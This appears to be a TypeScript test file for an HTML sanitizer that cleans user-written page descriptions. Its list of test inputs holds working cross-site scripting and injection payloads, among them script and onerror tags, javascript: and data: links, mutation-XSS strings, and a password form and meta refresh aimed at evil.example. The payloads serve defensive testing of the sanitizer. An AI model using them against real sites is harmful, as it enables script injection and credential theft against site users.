// Descriptions as they were written: what formatting stays, and that nothing of an attack does.
import { parseFragment, type DefaultTreeAdapterTypes } from 'parse5';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cleanDescription } from '../../src/outputs/pages/clean-description.ts';
import { forAll } from '../helpers/for-all.ts';

const clean = (description: string) => cleanDescription(description).toString();

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)" style="position:fixed" class="button" id="content">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#106;avascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="../../admin">x</a>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example/"><input name=password><button>x</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<style>body{display:none}</style>',
  '<template><script>alert(1)</script></template>',
  '<textarea></main><script>alert(1)</script></textarea>',
  '<!--><script>alert(1)</script>-->',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '</div></div></main></body><h1>x</h1>',
  '<table><tr><td><div></table></td>',
  '<b><i></b></i><u',
  `${'<div>'.repeat(5000)}x`,
  '<p>&#0;&#1;\u0000\ud800</p>',
];

const allowed = new Set(
  (
    'a abbr b bdi bdo blockquote br cite code dd del dfn div dl dt em h2 hr i ins kbd li mark ' +
    'ol p pre q s samp small span strong sub sup table tbody td tfoot th thead tr u ul var'
  ).split(' '),
);
const attributes = new Set(['href', 'rel', 'lang', 'dir', 'colspan', 'rowspan']);

function faultsIn(markup: string): string[] {
  const visit = (node: DefaultTreeAdapterTypes.Node): string[] => {
    if (!('tagName' in node))
      return 'childNodes' in node ? node.childNodes.flatMap(visit) : node.nodeName === '#comment' ? ['comment'] : [];
    const wrong = node.attrs.filter(
      ({ name, value }) => !attributes.has(name) || (name === 'href' && !/^(?:https?:\/\/|mailto:)/iu.test(value)),
    );
    const rel = node.attrs.find(({ name }) => name === 'rel')?.value;
    const isVouchedFor = node.attrs.some(({ name }) => name === 'href') && rel !== 'noopener nofollow ugc';
    return [
      ...(allowed.has(node.tagName) ? [] : [node.tagName]),
      ...wrong.map(({ name, value }) => `${name}=${value}`),
      ...(isVouchedFor ? ['rel'] : []),
      ...node.childNodes.flatMap(visit),
    ];
  };
  return visit(parseFragment(markup));
}

/** Whether what follows in a page is outside of it: all its elements end in it, and it ends none of others. */
function staysInPlace(markup: string): boolean {
  const page = parseFragment(`<section><div>${markup}</div><aside>after</aside></section>`);
  const [section] = page.childNodes;
  if (page.childNodes.length !== 1 || !section || !('childNodes' in section)) return false;
  return section.childNodes.length === 2 && section.childNodes[1]?.nodeName === 'aside';
}

describe('a description', () => {
  it('keeps paragraphs, lists, links, tables and languages, with headings below that of the page', () => {
    const written =
      '<h1>A</h1><p lang="es" dir="ltr">Uno<br>dos</p><ul><li><a href="https://a.example/?b=1&amp;c=2">three</a></li></ul><table><tr><td colspan="2">x</td></tr></table>';
    expect(clean(written)).toBe(
      '<h2>A</h2><p lang="es" dir="ltr">Uno<br />dos</p><ul><li><a href="https://a.example/?b=1&amp;c=2" rel="noopener nofollow ugc">three</a></li></ul><table><tr><td colspan="2">x</td></tr></table>',
    );
  });

  it.each(attacks)('is harmless: %j', (attack) => {
    const cleaned = clean(attack);
    expect(faultsIn(cleaned)).toEqual([]);
    expect(staysInPlace(cleaned)).toBe(true);
    expect(cleaned).not.toMatch(/[^\P{Cc}\t\n\r]|\p{Cs}/u);
    expect(clean(cleaned)).toBe(cleaned);
  });

  it('is harmless in whatever order its parts are', async () => {
    const parts = fc.array(
      fc.constantFrom(
        ...attacks,
        '<p>',
        '</p>',
        '<ul><li>',
        '</ul>',
        '<table>',
        '<td>',
        '"',
        "'",
        '<',
        '>',
        '&',
        'text ',
      ),
      { maxLength: 8 },
    );
    await forAll(300, [parts], (some) => {
      const cleaned = clean(some.join(''));
      expect(faultsIn(cleaned)).toEqual([]);
      expect(staysInPlace(cleaned)).toBe(true);
    });
  });

  it('ends in words where it is very long, with its elements', () => {
    const listOf = (items: number) => `<ul>${'<li><b>item</b></li>'.repeat(items)}</ul>`;
    // More markup than text.
    expect(clean(listOf(2000))).toBe(listOf(2000));
    const cleaned = clean(listOf(10_000));
    expect(cleaned.length).toBeLessThan(20_100);
    expect(cleaned).toMatch(/<\/li><\/ul><p>…<\/p>$/u);
    expect(staysInPlace(cleaned)).toBe(true);
    const tags = `x${'<a href="https://a.example/">yes</a>'.repeat(10_000)}`;
    for (let more = 0; more < 40; more += 1) expect(clean('x'.repeat(more) + tags)).toMatch(/[^;/]<\/a><p>…<\/p>$/u);
  });
});
